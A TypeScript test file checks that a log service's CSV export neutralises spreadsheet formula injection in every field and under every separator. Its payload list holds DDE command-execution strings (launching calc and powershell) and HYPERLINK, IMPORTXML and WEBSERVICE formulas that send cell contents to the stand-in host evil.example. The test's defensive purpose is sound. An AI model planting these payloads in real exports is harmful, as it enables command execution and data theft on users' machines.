/** Texts that a spreadsheet would run as formulas, in every field, through the CSV export. */
import { expect } from 'vitest'
import { splitAsSpreadsheet } from '../support/spreadsheet.ts'
import { startApp } from '../support/harness.ts'
import { ingest } from './client.ts'
import { noteResult } from './row.ts'

const STARTS = ['=', '+', '-', '@', '\t=', '\r=', '\n=', '＝', '＋', '－', '＠']
const FORMULAS = [
  '1+1',
  "cmd|' /C calc'!A0",
  'HYPERLINK("http://evil.example/?"&A1,"click")',
  'IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
  'WEBSERVICE("http://evil.example/")',
  'SUM(1,2)*cmd|\' /C powershell\'!"A1"',
  'DDE("cmd","/C calc","x")',
  '2+5+cmd|\' /C calc\'!A0","other cell',
  'A1,=B1',
  '1\r\n=2',
]
/** Behind what separates cells where the comma does not. */
const INNER = ['a;', 'a; "', 'a\t', 'a|', 'a\n', 'a;|\t'].flatMap((before) => [`${before}=`, `${before} ＝`])
const PAYLOADS = [...STARTS, ...INNER].flatMap((start) => FORMULAS.map((formula) => start + formula))

const FIELDS = ['message', 'resourceId', 'traceId', 'spanId', 'commit'] as const

/** The text without the apostrophes of the export. */
const asSent = (cell: string) => cell.replace(/^'/, '').replaceAll(/(?<=[;\t|\r\n])'(?=[\s"]*[=+\-@＝＋－＠])/gu, '')

export async function expectCellsNeutral(): Promise<void> {
  await using app = await startApp()
  const logs = PAYLOADS.map((payload) => ({
    ...Object.fromEntries(FIELDS.map((field) => [field, payload])),
    metadata: { parentResourceId: payload, [payload]: payload },
  }))
  expect((await ingest(app.url, JSON.stringify(logs))).status).toBe(201)
  const text = await (await fetch(`${app.url}/export?format=csv`)).text()
  const [names = [], ...rows] = splitAsSpreadsheet(text, ',')
  expect(rows).toHaveLength(PAYLOADS.length)
  const seen = new Set<string>()
  for (const row of rows) {
    expect(row).toHaveLength(names.length)
    const texts = [...FIELDS, 'parentResourceId'].map((field) => row[names.indexOf(field)] ?? '')
    expect(new Set(texts).size).toBe(1)
    seen.add(asSent(texts[0] ?? ''))
  }
  for (const separator of [',', ';', '\t', '|'])
    for (const cell of splitAsSpreadsheet(text, separator).flat())
      expect(cell, `split at ${JSON.stringify(separator)}`).not.toMatch(/^[\s"]*[=+\-@＝＋－＠]/u)
  expect(seen).toEqual(new Set(PAYLOADS))
  await noteResult(
    'B10',
    `CSV: ${PAYLOADS.length} formulas in ${FIELDS.length + 1} fields: every cell is text, wherever a spreadsheet splits`,
  )
}
